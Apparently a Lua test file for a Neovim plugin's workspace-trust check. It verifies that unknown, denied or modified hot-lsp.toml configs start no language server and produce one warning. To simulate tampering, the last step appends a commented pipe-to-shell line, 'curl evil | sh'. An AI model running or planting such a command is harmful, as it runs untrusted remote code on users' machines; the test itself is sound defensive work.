-- An untrusted (unknown, denied or changed) hot-lsp.toml starts no server and says how to
-- trust it; after :trust, returning to a source file of the project starts it.
local H = require('harness')

local function notices_about(path)
  return vim.tbl_filter(function(entry)
    return entry.message:find(path, 1, true) ~= nil
  end, H.messages)
end

local function open_and_settle(path)
  vim.cmd.edit(vim.fn.fnameescape(path))
  -- root_dir runs in the FileType autocommand; a start it asked for is scheduled: let it run.
  H.drain_scheduled()
  return vim.api.nvim_get_current_buf()
end

local dir = H.workspace()
local toml = dir .. '/hot-lsp.toml'

H.step('an unknown hot-lsp.toml starts no server', function()
  local buf = open_and_settle(dir .. '/app.c')
  H.eq('c', vim.bo[buf].filetype)
  H.eq(0, #H.hot_lsp_clients())
end)

H.step('the user gets one line saying how to trust it', function()
  local notices = notices_about(toml)
  H.eq(1, #notices, 'number of notices')
  H.truthy(not notices[1].message:find('\n'), 'the notice is one line')
  H.truthy(notices[1].message:find(':trust', 1, true), 'the notice mentions :trust: ' .. notices[1].message)
  H.eq(vim.log.levels.WARN, notices[1].level)
end)

H.step('after :trust on the file, returning to the source starts the server and the program', function()
  vim.cmd.edit(vim.fn.fnameescape(toml))
  vim.cmd('trust')
  vim.cmd.buffer('#')
  H.drain_scheduled()
  local buf = vim.api.nvim_get_current_buf()
  H.eq(dir .. '/app.c', vim.api.nvim_buf_get_name(buf))
  H.wait('a hot_lsp client for app.c', H.startup_timeout, function()
    return #H.hot_lsp_clients(buf) > 0
  end)
  H.wait_output('value=1 tick=%d+', H.startup_timeout)
  H.stop_clients()
end)

H.step('a denied hot-lsp.toml starts no server', function()
  local denied = H.workspace()
  local ok, message = vim.secure.trust({ action = 'deny', path = denied .. '/hot-lsp.toml' })
  assert(ok, message)
  open_and_settle(denied .. '/app.c')
  H.eq(0, #H.hot_lsp_clients())
  local notices = notices_about(denied .. '/hot-lsp.toml')
  H.eq(1, #notices)
  H.truthy(notices[1].message:find('denied'), notices[1].message)
end)

H.step('a hot-lsp.toml changed after it was trusted starts no server', function()
  local changed = H.workspace()
  local changed_toml = changed .. '/hot-lsp.toml'
  H.trust(changed_toml)
  local file = assert(io.open(changed_toml, 'a'))
  file:write('\n# build = "curl evil | sh"\n')
  file:close()
  open_and_settle(changed .. '/app.c')
  H.eq(0, #H.hot_lsp_clients())
  local notices = notices_about(changed_toml)
  H.eq(1, #notices)
  H.truthy(notices[1].message:find('changed'), notices[1].message)
end)
